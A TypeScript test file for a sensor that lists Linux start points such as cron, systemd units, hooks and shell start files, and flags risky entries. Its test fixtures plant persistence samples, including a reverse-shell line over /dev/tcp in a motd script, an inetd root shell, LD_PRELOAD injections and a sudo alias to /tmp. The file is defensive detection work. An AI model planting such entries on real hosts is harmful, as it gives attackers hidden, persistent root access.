import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { chmodSync, existsSync, unlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { hostAt, type Planted, plant } from '#test/lab/host-at.ts';
import { needsRoot } from '#test/lab/skip.ts';
import { makeTemp } from '#test/lab/temp.ts';
import sensor, { type StartPointRow } from './start-points.ts';

const skip = needsRoot();
const PASSWD =
  'root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n';

async function rootWith(planted: Readonly<Record<string, Planted>>) {
  const temp = await makeTemp();
  // Each folder on the way counts: who may write to it may exchange what is run.
  chmodSync(temp.path, 0o755);
  plant(temp.path, {
    'etc/passwd': PASSWD,
    'var/lib/dpkg/status': '',
    'root/x': '',
    'home/bob': null,
    'var/www': null,
    ...planted,
  });
  const host = hostAt(temp.path);
  return {
    host,
    root: temp.path,
    look: () => sensor.look(host, AbortSignal.timeout(10_000)),
    [Symbol.asyncDispose]: () => temp[Symbol.asyncDispose](),
  };
}

const short = (rows: readonly StartPointRow[], ...columns: (keyof StartPointRow)[]): string[] =>
  rows.map((row) => columns.map((column) => String(row[column])).join(' | '));

test('nothing on an empty host: no rows, no gaps', async () => {
  await using temp = await makeTemp();
  assert.deepEqual(await sensor.look(hostAt(temp.path), AbortSignal.timeout(10_000)), {
    rows: [],
    gaps: [],
    by: 'files',
  });
});

test('cron: tables, users, scripts, variables, and what cron would not run', { skip }, async () => {
  await using host = await rootWith({
    'etc/crontab': 'SHELL=/bin/sh\n*/5 * * * * root /usr/bin/x\n25 6 * * *\troot\ttest -x /opt/y || /opt/z\nbad line\n',
    'etc/cron.d/job': '* * * * * www-data /usr/bin/a',
    'etc/cron.d/gone': '-> /nowhere',
    'etc/cron.d/with.dot': '* * * * * root /usr/bin/d\n',
    'etc/cron.d/open': { text: '* * * * * root /usr/bin/o\n', mode: 0o666 },
    'etc/cron.d/ld': 'LD_PRELOAD=/tmp/x.so\n@reboot nobody-here /usr/bin/e\n',
    'etc/cron.daily/sub/file': 'x',
    'etc/cron.daily/script': { text: '#!/bin/sh\n/opt/own\n', mode: 0o755 },
    'etc/cron.daily/asleep': '#!/bin/sh\n',
    'etc/cron.daily/dangling': '-> nowhere',
    'var/spool/cron/crontabs/bob': { text: '# m h\n0 9 * * mon /home/bob/run\n', uid: 1000 },
    'var/spool/cron/crontabs/ghost': '* * * * * /tmp/g\n',
    'etc/anacrontab': '1 5 cron.daily run-parts /etc/cron.daily\n',
  });
  const { rows, gaps } = await host.look();
  assert.deepEqual(gaps, []);
  assert.deepEqual(short(rows, 'path', 'user', 'when', 'command', 'enabled', 'problem').sort(), [
    '/etc/anacrontab | root | every 1 day | run-parts /etc/cron.daily | true | ',
    '/etc/cron.d/gone | root |  |  | false | a link to "/nowhere", which leads nowhere',
    '/etc/cron.d/job | www-data | every minute | /usr/bin/a | false | no newline at its end: cron does not run this line',
    '/etc/cron.d/ld | every user | for the commands of this table | LD_PRELOAD=/tmp/x.so | true | ',
    '/etc/cron.d/ld | nobody-here | at boot | /usr/bin/e | false | there is no user "nobody-here"',
    '/etc/cron.d/open | root | every minute | /usr/bin/o | false | cron refuses a file that others than root may write',
    '/etc/cron.d/with.dot | root | every minute | /usr/bin/d | false | cron passes over a name with a dot',
    '/etc/cron.daily/asleep | root | every day | /etc/cron.daily/asleep | false | ',
    '/etc/cron.daily/dangling | root | every day | /etc/cron.daily/dangling | false | a link to "nowhere", which leads nowhere',
    '/etc/cron.daily/script | root | every day | /etc/cron.daily/script | true | ',
    '/etc/crontab | every user | for the commands of this table | SHELL=/bin/sh | true | ',
    '/etc/crontab | root |  |  | false | cron cannot read this line',
    '/etc/crontab | root | every 5 minutes | /usr/bin/x | true | ',
    '/etc/crontab | root | every day at 06:25 | test -x /opt/y || /opt/z | true | ',
    '/var/spool/cron/crontabs/bob | bob | every Monday at 09:00 | /home/bob/run | true | ',
    '/var/spool/cron/crontabs/ghost | ghost | every minute | /tmp/g | false | there is no user "ghost"',
  ]);
  const of = (path: string): StartPointRow | undefined => rows.find((row) => row.path === path);
  assert.equal(of('/etc/cron.d/open')?.open, 'everyone may write to /etc/cron.d/open');
  assert.equal(of('/etc/cron.d/ld')?.open, 'it lies below /tmp, where everyone may write');
  assert.deepEqual(of('/etc/cron.d/ld')?.tricks, ['LD_PRELOAD set']);
  assert.equal(of('/etc/cron.daily/script')?.program, '/opt/own');
});

test('who else may change what is run', { skip }, async () => {
  const line = (command: string): string => `* * * * * root ${command}\n`;
  await using host = await rootWith({
    'etc/cron.d/a': line('/tmp/a'),
    'etc/cron.d/b': line('/home/bob/b'),
    'etc/cron.d/c': line('/opt/open/c'),
    'etc/cron.d/d': line('/opt/.hidden/d'),
    'etc/cron.d/e': line('/opt/e'),
    'etc/cron.d/f': line('/opt/link'),
    'etc/cron.d/g': line('find /tmp -delete'),
    'etc/cron.d/h': '* * * * * bob /home/bob/b\n',
    'etc/cron.d/i': line('/root/.acme.sh/acme.sh --cron'),
    'home/bob/b': { text: '', uid: 1000 },
    'opt/open/c': '',
    'opt/.hidden/d': '',
    'opt/e': { text: '', mode: 0o777 },
    'opt/link': '-> ../home/bob/b',
    'root/.acme.sh/acme.sh': '',
  });
  chmodSync(join(host.root, 'opt/open'), 0o777);
  const { rows } = await host.look();
  assert.deepEqual(short(rows, 'path', 'open'), [
    '/etc/cron.d/a | it lies below /tmp, where everyone may write',
    '/etc/cron.d/b | bob owns /home/bob/b',
    '/etc/cron.d/c | everyone may write to /opt/open',
    '/etc/cron.d/d | /opt/.hidden/d is hidden by the dot in its name',
    '/etc/cron.d/e | everyone may write to /opt/e',
    '/etc/cron.d/f | bob owns /home/bob/b',
    '/etc/cron.d/g | ',
    '/etc/cron.d/h | ',
    '/etc/cron.d/i | ',
  ]);
});

test('systemd: units, drop-ins, masks, links, templates, timers, user units', { skip }, async () => {
  await using host = await rootWith({
    lib: '-> usr/lib',
    'usr/lib/systemd/system/ssh.service': '[Service]\nExecStart=/usr/sbin/sshd -D\nEnvironmentFile=-/etc/default/ssh\n',
    'usr/lib/systemd/system/getty@.service': '[Service]\nExecStart=-/sbin/agetty %I\n',
    'usr/lib/systemd/system/x.slice': '[Slice]\n',
    'etc/systemd/system/ssh.service.d/evil.conf':
      '[Service]\nEnvironment="LD_PRELOAD=/tmp/x.so" A=b\nExecStart=\nExecStart=+/tmp/y \\\n  --flag\n',
    'etc/systemd/system/sshd.service': '-> /lib/systemd/system/ssh.service',
    'etc/systemd/system/apt.timer': '-> /dev/null',
    'etc/systemd/system/multi-user.target.wants/ssh.service': '-> /lib/systemd/system/ssh.service',
    'etc/systemd/system/getty.target.wants/getty@tty1.service': '-> /lib/systemd/system/getty@.service',
    'etc/systemd/system/go.timer': '[Timer]\nOnCalendar=daily\nUnit=other.service\n',
    'etc/systemd/system/back.socket': '[Socket]\nListenStream=31337\nAccept=yes\n',
    'etc/systemd/system/watch.path': 'stray\n[Path]\nPathExists=/tmp/go\n',
    'etc/systemd/system/web.service':
      '[Service]\nUser=www-data\nExecStartPre=/bin/mkdir -p "/run/w b"\nExecStart=@/usr/bin/web web --x ; /usr/bin/two\n',
    'home/bob/.config/systemd/user/mine.service': { text: '[Service]\nExecStart=%h/bin/run\n', uid: 1000 },
    'home/bob/.config/systemd/user/default.target.wants/mine.service': '-> ../mine.service',
    'run/systemd/transient/run-u1.service': '[Service]\nExecStart=/bin/x\n',
    'run/systemd/transient/run-u2.timer': '[Timer]\nOnActiveSec=5min\n',
  });
  const { rows, gaps } = await host.look();
  assert.deepEqual(gaps, []);
  assert.deepEqual(short(rows, 'kind', 'name', 'user', 'when', 'command', 'enabled', 'startedBy').sort(), [
    'systemd drop-in | ssh.service | root |  | clears ExecStart; /tmp/y --flag | true | ',
    'systemd link | getty@tty1.service | root | together with getty.target | starts getty@tty1.service: /sbin/agetty %I | true | getty.target',
    'systemd link | mine.service | bob | at login (default.target) | starts mine.service: %h/bin/run | true | default.target',
    'systemd link | ssh.service | root | at boot (multi-user.target) | starts ssh.service: /usr/sbin/sshd -D | true | multi-user.target',
    'systemd link | sshd.service | root | as another name of ssh.service | starts sshd.service: /usr/sbin/sshd -D | true | ',
    'systemd path | watch.path | root | when /tmp/go exists | starts watch.service | true | ',
    'systemd service | getty@.service | root |  | /sbin/agetty %I | true | ',
    'systemd service | mine.service | bob |  | %h/bin/run | true | default.target',
    'systemd service | ssh.service | root |  | /usr/sbin/sshd -D | true | multi-user.target',
    "systemd service | web.service | www-data |  | /usr/bin/web --x; /usr/bin/two; ExecStartPre: /bin/mkdir -p '/run/w b' | true | ",
    'systemd socket | back.socket | root | when something connects to 31337 | starts back.service | true | ',
    'systemd timer | apt.timer | root | never: it is masked |  | false | ',
    'systemd timer | go.timer | root | every day | starts other.service | true | ',
    'systemd timer | run-u2.timer | root | 5min after the timer was started | starts run-u2.service | true | ',
  ]);
  const of = (path: string): StartPointRow | undefined => rows.find((row) => row.path.endsWith(path));
  assert.deepEqual(of('evil.conf')?.environment, ['LD_PRELOAD=/tmp/x.so']);
  assert.equal(of('evil.conf')?.program, '/tmp/y');
  assert.equal(of('evil.conf')?.open, 'it lies below /tmp, where everyone may write');
  assert.equal(of('user/mine.service')?.program, '/home/bob/bin/run');
  assert.equal(of('watch.path')?.problem, 'systemd passes over the line "stray"');
});

test('systemd: the unit files that systemctl sees are the rows', {
  skip: skip || (existsSync('/usr/bin/systemctl') ? false : 'needs systemd'),
}, async () => {
  const listed = execFileSync(
    '/usr/bin/systemctl',
    ['--root=/', 'list-unit-files', '--no-legend', '--plain', '-t', 'service,timer,socket,path'],
    {
      encoding: 'utf8',
    },
  );
  const theirs = new Map(
    listed
      .trim()
      .split('\n')
      .map((line) => line.split(/\s+/) as [string, string]),
  );
  const { openLiveHost } = await import('#host/live.ts');
  using host = openLiveHost({ namespaces: 'own' });
  const { rows } = await sensor.look(host, AbortSignal.timeout(20_000));
  const units = rows.filter(
    (row) => /^systemd (?:service|timer|socket|path|link)$/.test(row.kind) && !row.path.includes('/user/'),
  );
  const ours = new Set(units.map(({ name }) => name));
  assert.deepEqual(
    [...theirs.keys()].filter((name) => !ours.has(name)),
    [],
  );
  for (const [name, state] of theirs) {
    const row = units.find((unit) => unit.name === name && unit.kind !== 'systemd link');
    if (state === 'masked') assert.equal(row?.enabled, false, name);
    if (state === 'enabled' && row !== undefined && !name.includes('@'))
      assert.ok(row.startedBy.length > 0 || units.some((unit) => unit.link.endsWith(`/${name}`)), name);
  }
});

test('commands of interfaces(5) are start points of root', async () => {
  await using host = await rootWith({
    'etc/network/interfaces': 'source /etc/network/interfaces.d/*\niface lo inet loopback\n up /opt/x\n',
    'etc/network/interfaces.d/z': 'iface eth0 inet dhcp\n pre-up /root/x -a\n',
  });
  const { rows } = await host.look();
  assert.deepEqual(short(rows, 'kind', 'user', 'when', 'command', 'program'), [
    'network command | root | when lo goes up | /opt/x | /opt/x',
    'network command | root | when eth0 goes pre up | /root/x -a | /root/x',
  ]);
});

test('what a link leads to is there once, under its own name; modules that come with others are told', async () => {
  await using host = await rootWith({
    'etc/modules': 'loop\n',
    'etc/modules-load.d/modules.conf': '-> ../modules',
    'etc/modules-load.d/other.conf': '-> ../../opt/list',
    'opt/list': 'loop\n',
    'etc/modprobe.d/x.conf': 'softdep ext4 pre: evil post: worse\n',
  });
  const { rows } = await host.look();
  assert.deepEqual(short(rows, 'kind', 'name', 'path', 'command'), [
    'module with another | softdep ext4 | /etc/modprobe.d/x.conf | loads the kernel module evil, worse',
    'module at boot | loop | /etc/modules-load.d/other.conf | loads the kernel module loop',
    'module at boot | loop | /etc/modules | loads the kernel module loop',
  ]);
});

test('sysv, inetd, hooks, udev, modprobe, shells, variables, apt, logs, mail, desktop, interpreters', {
  skip,
}, async () => {
  await using host = await rootWith({
    'etc/init.d/old': { text: '#!/bin/sh\ncase $1 in start) /opt/old;; esac\n', mode: 0o755 },
    'etc/rc2.d/S01old': '-> ../init.d/old',
    'etc/rc.local': { text: '#!/bin/sh\n/tmp/rc\n', mode: 0o755 },
    'etc/inittab': 'x:2345:respawn:/opt/x\n',
    'etc/inetd.conf': 'back stream tcp nowait root /bin/sh sh -i\n',
    'etc/xinetd.d/b': 'service b\n{\n server = /opt/b\n disable = no\n}\n',
    'etc/network/if-up.d/evil': { text: '#!/bin/sh\n', mode: 0o755 },
    'etc/NetworkManager/dispatcher.d/pre-up.d/n': { text: '#!/bin/sh\n', mode: 0o755 },
    'etc/update-motd.d/99-x': { text: '#!/bin/sh\nbash -i >& /dev/tcp/1.2.3.4/5 0>&1\n', mode: 0o755 },
    'etc/systemd/system-generators/gen': { text: '#!/bin/sh\n', mode: 0o755 },
    'etc/udev/rules.d/99-x.rules': 'SUBSYSTEM=="net", RUN+="/opt/u"\nbroken\n',
    'etc/modprobe.d/x.conf': 'install usb-storage /opt/m\ninstall cramfs /bin/true\n',
    'etc/modules-load.d/x.conf': '# c\nrootkit\n',
    'etc/binfmt.d/x.conf': ':x:E::foo::/opt/i:C\n',
    'root/.bashrc': "alias sudo='/tmp/.s'\n. /tmp/env\n",
    'home/bob/.profile': { text: '# only a comment\n', uid: 1000 },
    'etc/profile.d/x.sh': 'export PATH=/tmp:$PATH\n',
    'etc/environment': 'LD_PRELOAD=/opt/x.so\nLANG=C\n',
    'etc/default/ssh': 'SSHD_OPTS=\nLD_PRELOAD=/opt/y.so\n',
    'etc/apt/apt.conf.d/99x': 'DPkg::Post-Invoke {"/opt/apt";};\n',
    'etc/dpkg/dpkg.cfg.d/x': 'post-invoke=/opt/dpkg\n',
    'etc/logrotate.d/x': '/var/log/x {\n postrotate\n  /opt/rotate\n endscript\n}\n',
    'etc/rsyslog.d/x.conf': 'action(type="omprog" binary="/opt/log")\n',
    'etc/aliases': 'x: "|/opt/mail"\n',
    'home/bob/.forward': { text: '|/opt/fwd\n', uid: 1000 },
    'etc/xdg/autostart/x.desktop': '[Desktop Entry]\nName=X\nExec=/opt/auto --a\n',
    'home/bob/.config/autostart/off.desktop': {
      text: '[Desktop Entry]\nName=Off\nExec=/opt/off\nHidden=true\n',
      uid: 1000,
    },
    'usr/share/dbus-1/system-services/x.service': '[D-BUS Service]\nName=org.x\nExec=/opt/bus\nUser=root\n',
    'usr/lib/python3/dist-packages/x.pth': 'import os; os.system("id")\n',
    'usr/lib/python3.11/sitecustomize.py': 'import x\n',
    'etc/php/8.2/fpm/php.ini': 'auto_prepend_file = "/opt/p.php"\n',
    'root/repo/.git/hooks/post-merge': { text: '#!/bin/sh\n', mode: 0o755 },
    'root/repo/.git/hooks/x.sample': { text: '#!/bin/sh\n', mode: 0o755 },
    'root/.gitconfig': '[core]\n\thooksPath = /opt/hooks\n',
    'var/spool/cron/atjobs/a0000101c6b4e0': '#!/bin/sh\n# atrun uid=0 gid=0\ncd /root || {\n exit 1\n}\n/opt/at\n',
  });
  const { rows, gaps } = await host.look();
  assert.deepEqual(gaps, []);
  assert.deepEqual(short(rows, 'kind', 'name', 'user', 'command', 'program', 'enabled').sort(), [
    'D-Bus service | org.x | root | /opt/bus | /opt/bus | true',
    'apt hook | DPkg::Post-Invoke | root | /opt/apt | /opt/apt | true',
    'at |  | root | /opt/at | /opt/at | true',
    'autostart | Off | bob | /opt/off | /opt/off | false',
    'autostart | X | every user | /opt/auto --a | /opt/auto | true',
    'binary format | x | every user | /opt/i | /opt/i | true',
    'dpkg hook | post-invoke | root | /opt/dpkg | /opt/dpkg | true',
    'environment | LANG | every user | LANG=C |  | true',
    'environment | LD_PRELOAD | every user | LD_PRELOAD=/opt/x.so |  | true',
    'environment | LD_PRELOAD | root | LD_PRELOAD=/opt/y.so |  | true',
    'git hook |  | root | /root/repo/.git/hooks/post-merge |  | true',
    'git setting | hookspath | root | /opt/hooks | /opt/hooks | true',
    'inetd | back/tcp | root | /bin/sh -i | /bin/sh | true',
    'init script |  | root | /etc/init.d/old | /opt/old | true',
    'inittab | x | root | /opt/x | /opt/x | true',
    'logrotate hook | postrotate of /var/log/x | root | /opt/rotate | /opt/rotate | true',
    'mail alias | x | nobody | /opt/mail | /opt/mail | true',
    'mail forward |  | bob | /opt/fwd | /opt/fwd | true',
    'modprobe | install cramfs | root | /bin/true | /bin/true | false',
    'modprobe | install usb-storage | root | /opt/m | /opt/m | true',
    'module at boot | rootkit | root | loads the kernel module rootkit |  | true',
    'motd script |  | root | /etc/update-motd.d/99-x |  | true',
    'network hook |  | root | /etc/NetworkManager/dispatcher.d/pre-up.d/n |  | true',
    'network hook |  | root | /etc/network/if-up.d/evil |  | true',
    'php start file | auto_prepend_file | every user | /opt/p.php | /opt/p.php | true',
    'python start file |  | every user | /usr/lib/python3.11/sitecustomize.py |  | true',
    'python start file |  | every user | import os; os.system("id") |  | true',
    'rc.local |  | root | /etc/rc.local | /tmp/rc | true',
    'shell start file |  | bob |  |  | true',
    'shell start file |  | every user |  |  | true',
    'shell start file |  | root |  | /tmp/env | true',
    'syslog program | omprog | root | /opt/log | /opt/log | true',
    'systemd generator |  | root | /etc/systemd/system-generators/gen |  | true',
    'udev rule | RUN: /opt/u | root | /opt/u | /opt/u | true',
    'udev rule | broken | root |  |  | false',
    'xinetd | b/ | root | /opt/b | /opt/b | true',
  ]);
  const of = (path: string): StartPointRow | undefined => rows.find((row) => row.path === path);
  assert.deepEqual(of('/root/.bashrc')?.tricks, ['alias of sudo']);
  assert.equal(of('/root/.bashrc')?.open, 'it lies below /tmp, where everyone may write');
  assert.deepEqual(of('/etc/update-motd.d/99-x')?.tricks, ['connection by /dev/tcp']);
  assert.equal(of('/etc/init.d/old')?.when, 'at boot (runlevels 2)');
  assert.equal(of('/etc/rc.local')?.open, 'it lies below /tmp, where everyone may write');
});

test('a look in which nothing changed reads no file again; a change shows the lines that came', { skip }, async () => {
  await using host = await rootWith({ 'root/.bashrc': 'a=1\n', 'etc/cron.d/x': '* * * * * root /usr/bin/a\n' });
  const first = await host.look();
  let reads = 0;
  const { files } = host.host;
  const before = { ...files };
  Object.assign(files, { read: (path: string, max?: number) => ((reads += 1), before.read(path, max)) });
  assert.deepEqual((await host.look()).rows, first.rows);
  assert.equal(reads, 0);
  writeFileSync(join(host.root, 'root/.bashrc'), "# why\na=1\nalias sudo='x'\n");
  const changed = (await host.look()).rows.find((row) => row.path === '/root/.bashrc');
  assert.deepEqual(changed?.added, ["alias sudo='x'"]);
  assert.notEqual(changed?.digest, first.rows.find((row) => row.path === '/root/.bashrc')?.digest);
  unlinkSync(join(host.root, 'etc/cron.d/x'));
  assert.equal((await host.look()).rows.length, first.rows.length - 1);
});

test('odd files never blind the rest: bytes, folders, links in a circle, huge files, FIFOs', { skip }, async () => {
  await using host = await rootWith({
    'etc/cron.d/folder/x': '',
    'etc/cron.d/loop': '-> loop',
    'etc/crontab': '* * * * * root /usr/bin/caf\u00e9\n',
    'etc/cron.d/last': '* * * * * root /usr/bin/last\n',
  });
  writeFileSync(join(host.root, 'etc/cron.d/bytes'), Buffer.from('* * * * * root /usr/bin/\xff\n\x00\n', 'latin1'));
  writeFileSync(join(host.root, 'etc/cron.d/huge'), Buffer.alloc(3 << 20, '#'));
  execFileSync('/usr/bin/mkfifo', [join(host.root, 'etc/cron.d/fifo')]);
  const { rows, gaps } = await host.look();
  assert.deepEqual(gaps, []);
  assert.deepEqual(short(rows, 'path', 'command', 'problem').sort(), [
    '/etc/cron.d/bytes |  | cron cannot read this line',
    '/etc/cron.d/bytes | /usr/bin/ÿ | ',
    '/etc/cron.d/fifo |  | it is no ordinary file',
    '/etc/cron.d/huge |  | it is too large to be read',
    '/etc/cron.d/last | /usr/bin/last | ',
    '/etc/cron.d/loop |  | a link to "loop", which leads nowhere',
    '/etc/crontab | /usr/bin/café | ',
  ]);
});

test('packages: who ships a file is found for many at once and for one alike', { skip }, async () => {
  const units = Object.fromEntries(
    Array.from({ length: 40 }, (_, i) => [`usr/lib/systemd/system/u${i}.service`, '[Service]\nExecStart=/usr/bin/u\n']),
  );
  await using host = await rootWith({
    ...units,
    lib: '-> usr/lib',
    'usr/bin/u': '',
    'var/lib/dpkg/info/units:amd64.list': `${Array.from({ length: 39 }, (_, i) => `/lib/systemd/system/u${i}.service`).join('\n')}\n/usr/bin/u\n`,
  });
  const { rows } = await host.look();
  assert.deepEqual(
    rows.filter((row) => row.package !== 'units').map((row) => row.name),
    ['u39.service'],
  );
  assert.ok(rows.every((row) => row.programPackage === 'units'));
});

test('the content of an own program counts, that of a packaged one does not', { skip }, async () => {
  await using host = await rootWith({
    'etc/cron.d/x': '@daily root /opt/own; /usr/bin/shipped\n',
    'opt/own': { text: 'a\n', mode: 0o755 },
    'usr/bin/shipped': { text: 'a\n', mode: 0o755 },
    'var/lib/dpkg/info/p.list': '/usr/bin/shipped\n',
  });
  const digest = async (): Promise<string | undefined> => (await host.look()).rows[0]?.programDigest;
  const before = await digest();
  assert.match(before ?? '', /^[0-9a-f]{16}$/);
  writeFileSync(join(host.root, 'usr/bin/shipped'), 'b\n');
  assert.equal(await digest(), before);
  writeFileSync(join(host.root, 'opt/own'), 'b\n');
  assert.notEqual(await digest(), before);
});
